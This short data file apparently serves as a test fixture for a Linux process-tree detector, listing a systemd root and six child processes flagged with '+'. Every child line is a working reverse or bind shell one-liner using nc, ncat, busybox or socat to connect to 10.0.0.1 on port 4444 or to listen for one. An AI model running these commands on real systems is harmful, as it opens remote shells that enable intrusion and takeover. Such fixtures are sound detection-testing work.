os linux
1 0 root systemd /usr/lib/systemd/systemd | /sbin/init
+ 101 1 root nc /usr/bin/nc.traditional | nc -e /bin/sh 10.0.0.1 4444
+ 102 1 root - /usr/bin/ncat | ncat 10.0.0.1 4444 --sh-exec bash
+ 103 1 root nc /bin/busybox | nc 10.0.0.1 4444 -e sh
+ 104 1 root - /usr/bin/socat | socat TCP:10.0.0.1:4444 EXEC:'/bin/bash -li',pty,stderr,setsid
+ 105 1 root nc /usr/bin/nc.traditional | nc -lvp 4444 -c bash
+ 106 1 root - /bin/busybox | busybox nc 10.0.0.1 4444 -e /bin/sh
